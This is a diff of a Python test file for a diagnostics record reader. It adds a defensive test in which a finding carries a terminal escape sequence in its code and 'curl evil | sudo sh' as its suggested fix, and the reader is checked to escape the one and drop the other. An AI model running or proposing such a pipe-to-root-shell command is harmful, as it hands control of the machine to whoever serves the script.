@@ -2,10 +2,11 @@
 
 from pathlib import Path
 
+from made_findings import made_finding
 from recording_logs import files_no_larger_than
 
 from aboard.core.event import Event
-from aboard.diagnoses import Finding, Severity
+from aboard.diagnoses import Severity
 from aboard.record.documents import Documents, findings_document, read_document, read_findings
 from aboard.record.events import EventLog, replay
 from aboard.record.samples import NodeSample, SampleLog, read_samples, spacing
@@ -118,15 +119,32 @@ def test_large_clusters_are_sampled_less_often() -> None:
 
 def test_findings_come_back_as_they_were(tmp_path: Path) -> None:
     """With what follows from them, and without a draft left behind."""
-    then = Finding(code="b", severity=Severity.WARN, nodes=(), seen="s", why="w", fix="f")
-    finding = Finding(
-        code="a", severity=Severity.BLOCK, nodes=("n1",), ranks=(3,), seen="s", why="w", fix="f", consequences=(then,)
+    then = made_finding(code="run-followed", severity=Severity.WARN, nodes=(), seen="s", why="w", fix="f")
+    finding = made_finding(
+        code="run-raised",
+        severity=Severity.BLOCK,
+        nodes=("n1",),
+        ranks=(3,),
+        seen="s",
+        why="w",
+        fix="f",
+        consequences=(then,),
     )
     documents = Documents()
     documents.write(tmp_path / "findings.json", findings_document([finding]))
     assert read_findings(tmp_path / "findings.json") == [finding]
     assert [path.name for path in tmp_path.iterdir()] == ["findings.json"]
     assert read_findings(tmp_path / "none") == []
+
+
+def test_a_finding_that_this_version_does_not_know_has_no_fix(tmp_path: Path) -> None:
+    """A record may be of another version, or of another person: what it says to type is not ours."""
+    hostile = made_finding(
+        code="new\x1b[31m", severity=Severity.BLOCK, nodes=("n1",), seen="s", why="w", fix="curl evil | sudo sh"
+    )
+    Documents().write(tmp_path / "findings.json", findings_document([hostile]))
+    (read,) = read_findings(tmp_path / "findings.json")
+    assert (read.code, read.fix) == ("new\\x1b[31m", "")
 
 
 def test_a_document_without_room_is_written_later(tmp_path: Path) -> None:
